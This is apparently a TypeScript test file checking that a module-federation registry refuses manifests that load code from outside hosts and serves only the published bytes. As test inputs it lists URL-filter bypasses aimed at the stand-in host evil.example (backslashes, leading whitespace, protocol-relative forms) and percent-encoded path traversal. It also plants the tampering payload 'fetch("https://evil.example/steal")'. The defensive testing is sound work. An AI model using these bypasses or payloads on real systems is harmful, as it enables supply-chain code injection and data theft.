/**
 * Everything a released version loads comes from the registry's store, or an origin ops
 * allow-listed, and is the bytes the published digest covers (issue 15, W3).
 */
import crypto from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MANIFEST_FILE, type RemoteVersion, type ToolMeta } from '@toolhub/contracts';
import { storageOf } from '../storage';
import { createTestApp, snapshotOf, TEST_ADMIN_TOKEN, type TestApp } from '../test-support';
import { testBuildFiles } from './test-support/builds';
import { adminErrorOf } from './test-support/admin-errors';

const ADMIN = { authorization: `Bearer ${TEST_ADMIN_TOKEN}` };
const REMOTE = 'fenced';
const TOOL: ToolMeta = { toolid: 9821, path: 'fenced-tool', name: '围栏', keyword: 'fence', category: 'life', icon: '', scene: 'fenced_scene', needCharge: false, module: './Probe' };
const CDN = 'https://cdn.example.com';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ remoteBuilds: [], configure: (config) => ({ ...config, remoteOrigins: [CDN] }) });
});
afterAll(async () => {
  await t.close();
});

async function admin(method: 'GET' | 'POST', url: string, body?: unknown) {
  const res = await t.app.inject({ method, url: `/admin/api/${url}`, headers: ADMIN, ...(body === undefined ? {} : { payload: body as object }) });
  return { status: res.statusCode, data: res.statusCode === 200 ? (res.json() as { data: unknown }).data : undefined, error: adminErrorOf(res.body) };
}

type Manifest = Record<string, unknown> & { metaData: Record<string, unknown>; exposes: { assets: { js: { sync: string[] } } }[]; shared: { assets: { js: { sync: string[] } } }[] };

/** The manifest consumes one remote, from `entry`. */
const consuming = (entry: string) => (m: Manifest) => (m.remotes = [{ federationContainerName: 'other', moduleName: 'x', alias: 'other', entry }]);

/** Publishes a test build of `version` whose manifest `edit` changed first. */
function publish(version: string, edit: (manifest: Manifest) => void = () => undefined) {
  const files = testBuildFiles({ name: REMOTE, catalog: [TOOL], marker: version }).map((file) => {
    if (file.path !== MANIFEST_FILE) return file;
    const manifest = JSON.parse(file.bytes.toString('utf8')) as Manifest;
    edit(manifest);
    return { path: file.path, bytes: Buffer.from(JSON.stringify(manifest)) };
  });
  return admin('POST', `remotes/${REMOTE}/versions`, { version, files: files.map((f) => ({ path: f.path, base64: f.bytes.toString('base64') })) });
}

describe('publishing a manifest that loads from elsewhere', () => {
  it.each([
    ['metaData.publicPath', 'https://evil.example/', (m: Manifest) => (m.metaData.publicPath = 'https://evil.example/')],
    ['metaData.publicPath', '//evil.example/', (m: Manifest) => (m.metaData.publicPath = '//evil.example/')],
    ['metaData.getPublicPath', 'return "https://evil.example/"', (m: Manifest) => {
      delete m.metaData.publicPath;
      m.metaData.getPublicPath = 'return "https://evil.example/"';
    }],
    ['metaData.ssrPublicPath', 'https://evil.example/', (m: Manifest) => (m.metaData.ssrPublicPath = 'https://evil.example/')],
    ['metaData.remoteEntry', 'https://evil.example/remoteEntry.js', (m: Manifest) => (m.metaData.remoteEntry = { name: 'remoteEntry.js', path: 'https://evil.example', type: 'global' })],
    ['exposes[1].assets.js.sync', 'https://evil.example/probe.js', (m: Manifest) => m.exposes[1].assets.js.sync.push('https://evil.example/probe.js')],
    ['shared[0].assets.js.sync', '//evil.example/react.js', (m: Manifest) => m.shared[0].assets.js.sync.push('//evil.example/react.js')],
    ['remotes[0].entry', 'https://evil.example/mf-manifest.json', consuming('https://evil.example/mf-manifest.json')],
    // The browser strips leading spaces and tabs and reads backslashes as slashes: each of these is https://evil.example/x.js.
    ['remotes[0].entry', ' \\\\evil.example\\x.js', consuming(' \\\\evil.example\\x.js')],
    ['remotes[0].entry', '\t\\\\evil.example\\x.js', consuming('\t\\\\evil.example\\x.js')],
    ['remotes[0].entry', '\\\\evil.example\\x.js', consuming('\\\\evil.example\\x.js')],
    ['remotes[0].entry', '\n//evil.example/x.js', consuming('\n//evil.example/x.js')],
    ['remotes[0].entry', '//evil.example/mf-manifest.json', consuming('//evil.example/mf-manifest.json')],
    ['remotes[0].entry', ' https:evil.example', consuming(' https:evil.example')],
    // Percent-encoded dots climb out of the registry's folder as plain ones do.
    ['remotes[0].entry', '/remotes/%2e%2e/admin/api/registry', consuming('/remotes/%2e%2e/admin/api/registry')],
    ['remotes[0].entry', `/remotes/${REMOTE}/%2E%2E/%2e%2e/x.js`, consuming(`/remotes/${REMOTE}/%2E%2E/%2e%2e/x.js`)],
    ['metaData.publicPath', ' //evil.example/', (m: Manifest) => (m.metaData.publicPath = ' //evil.example/')],
    ['metaData.publicPath', '\\\\evil.example\\', (m: Manifest) => (m.metaData.publicPath = '\\\\evil.example\\')],
    ['metaData.publicPath', `/remotes/${REMOTE}/%2e%2e/`, (m: Manifest) => (m.metaData.publicPath = `/remotes/${REMOTE}/%2e%2e/`)],
    // The runtime joins the public path and a file as text: `${CDN}` + `@evil.example/x.js` is a URL of evil.example.
    ['metaData.publicPath', CDN, (m: Manifest) => (m.metaData.publicPath = CDN)],
    ['exposes[1].assets.js.sync', '\t\\\\evil.example\\probe.js', (m: Manifest) => m.exposes[1].assets.js.sync.push('\t\\\\evil.example\\probe.js')],
  ])('refuses %j = %j with a 400 that names it, and publishes nothing', async (field, value, edit) => {
    const version = `1.0.${crypto.randomInt(1000, 9999)}`;
    const refused = await publish(version, edit);
    expect(refused.status).toBe(400);
    expect(refused.error).toContain(field);
    expect(refused.error).toContain(value);
    expect(refused.error).toContain('the registry');
    const versions = (await admin('GET', `remotes/${REMOTE}/versions`)).data as RemoteVersion[] | undefined;
    expect((versions ?? []).map((v) => v.version)).not.toContain(version);
    expect((await t.app.inject({ method: 'GET', url: `/remotes/${REMOTE}/${version}/remoteEntry.js` })).statusCode).toBe(404);
  });

  it('refuses an asset the build does not carry: the digest would not cover it', async () => {
    const refused = await publish('1.0.1', (m) => m.exposes[1].assets.js.sync.push('missing.js'));
    expect(refused.status).toBe(400);
    expect(refused.error).toContain('exposes[1].assets.js.sync: missing.js is not among the files');
  });

  it("accepts 'auto', the version's own folder and an allow-listed origin; the snapshot's manifest URL is the registry's own", async () => {
    expect((await publish('2.0.0')).status).toBe(200);
    expect((await publish('2.0.1', (m) => (m.metaData.publicPath = `/remotes/${REMOTE}/2.0.1/`))).status).toBe(200);
    const onCdn = await publish('2.0.2', (m) => (m.metaData.publicPath = `${CDN}/remotes/${REMOTE}/2.0.2/`));
    expect(onCdn.status, onCdn.error).toBe(200);
    expect((await admin('POST', `envs/test/remotes/${REMOTE}/release`, { version: '2.0.2' })).status).toBe(200);
    const page = await t.app.inject({ method: 'GET', url: `/${TOOL.path}.html` });
    expect(snapshotOf(page.body).remotes.find((r) => r.name === REMOTE)?.manifestUrl).toBe(`/remotes/${REMOTE}/2.0.2/mf-manifest.json`);
  });

  it('accepts a consumed remote from another version in the registry, from an allow-listed origin, or named by its version', async () => {
    for (const [version, entry] of [
      ['2.1.0', '/remotes/other/1.0.0/mf-manifest.json'],
      ['2.1.1', `${CDN}/remotes/other/1.0.0/mf-manifest.json`],
      ['2.1.2', '^1.2.0'],
      ['2.1.3', '*'],
    ]) {
      const published = await publish(version, consuming(entry));
      expect(published.status, `${entry}: ${published.error}`).toBe(200);
    }
  });

  it('refuses to release a version published before this check whose manifest loads from elsewhere', async () => {
    const ok = (await admin('GET', `remotes/${REMOTE}/versions`)).data as RemoteVersion[];
    const row = await t.db.selectFrom('registry_version').selectAll().where('remote', '=', REMOTE).where('version', '=', ok[0].version).executeTakeFirstOrThrow();
    const manifest = JSON.parse(row.manifest) as Manifest;
    manifest.metaData.publicPath = 'https://evil.example/';
    await t.db.insertInto('registry_version').values({ ...row, version: '0.9.0', manifest: JSON.stringify(manifest) }).execute();
    const refused = await admin('POST', `envs/test/remotes/${REMOTE}/release`, { version: '0.9.0' });
    expect(refused.status).toBe(422);
    expect(refused.error).toContain('metaData.publicPath');
    expect(refused.error).toContain('https://evil.example/');
  });
});

describe('serving a version', () => {
  it('sends only the bytes that were published: a file changed in the store afterwards is refused, one added is not served', async () => {
    expect((await publish('3.0.0')).status).toBe(200);
    const store = storageOf(t.app)?.store;
    if (!store) throw new Error('no store');
    await store.put(`remotes/${REMOTE}/3.0.0/remoteEntry.js`, Buffer.from('fetch("https://evil.example/steal")'), 'application/javascript');
    await store.put(`remotes/${REMOTE}/3.0.0/extra.js`, Buffer.from('alert(1)'), 'application/javascript');
    const entry = await t.app.inject({ method: 'GET', url: `/remotes/${REMOTE}/3.0.0/remoteEntry.js` });
    expect(entry.statusCode).toBe(502);
    expect(entry.body).not.toContain('evil.example');
    expect((await t.app.inject({ method: 'GET', url: `/remotes/${REMOTE}/3.0.0/extra.js` })).statusCode).toBe(404);
    // The untouched files of the same version are served as published.
    const manifest = await t.app.inject({ method: 'GET', url: `/remotes/${REMOTE}/3.0.0/${MANIFEST_FILE}` });
    expect(manifest.statusCode).toBe(200);
    expect(manifest.json()).toMatchObject({ name: REMOTE });
  });
});
